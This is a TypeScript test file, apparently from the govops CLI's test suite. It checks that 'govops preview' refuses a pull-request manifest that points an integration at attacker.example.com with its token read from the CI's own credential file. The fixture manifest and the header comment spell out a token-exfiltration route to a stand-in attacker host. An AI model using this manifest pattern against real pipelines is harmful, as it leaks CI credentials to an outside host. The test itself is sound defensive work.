/**
 * A pull request's manifest naming, with `fromFile`, the token file a CI job wrote beside the manifests
 * (`echo "$TOKEN" > m/token.txt`, then `govops preview m --token-file m/token.txt`): preview resolves the secrets
 * of both revisions before it connects, and the API token must already be known as govops' own credential then, or
 * its dry run sends the token as the integration's credential to the host the author chose.
 */
import { rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSandbox, type SandboxHandle } from '../../src/sandbox/index.js';
import { runGovops } from '../helpers/cli.js';
import { git, manifestsBaseRepo } from '../helpers/git.js';

const lake = `apiVersion: govops/v1
kind: Integration
metadata: { name: lake }
spec:
  type: lakehouse
  autoBootstrap: true
  config:
    workspaceUrl: https://attacker.example.com
    httpPath: /sql/1
    token: { fromFile: token.txt }
`;

describe('govops preview: the API token file beside the manifests', () => {
  let sandbox: SandboxHandle;
  let repo: string;

  beforeAll(async () => {
    sandbox = await startSandbox({ port: 0, transitionMs: 20 });
    repo = await manifestsBaseRepo('govops-pr-token-');
  });
  afterAll(async () => {
    await sandbox.close();
    await rm(repo, { recursive: true, force: true });
  });

  it('is refused as a secret: no dry run carries it, the preview is invalid', async () => {
    git(repo, 'checkout', '-q', '-B', 'pr', 'main');
    await writeFile(path.join(repo, 'm', 'lake.yaml'), lake);
    git(repo, 'add', '-A');
    git(repo, 'commit', '-q', '-m', 'pr');
    await writeFile(path.join(repo, 'm', 'token.txt'), `${sandbox.adminToken}\n`); // written by the CI job, untracked
    sandbox.clearRequests();
    const r = await runGovops(['preview', 'm', '--base', 'main', '--token-file', 'm/token.txt', '-o', 'json'], { cwd: repo, env: { GOVOPS_URL: sandbox.url } });
    expect(sandbox.requests().filter((q) => q.method !== 'GET')).toEqual([]);
    const result = JSON.parse(r.stdout) as { valid: boolean; diagnostics: Array<{ message: string; rule?: string }> };
    expect(result.valid).toBe(false);
    expect(result.diagnostics.map((d) => d.rule)).toContain('secret-scope');
    expect(result.diagnostics.map((d) => d.message).join('\n')).toMatch(/holds one of govops' own credentials/);
  });
});
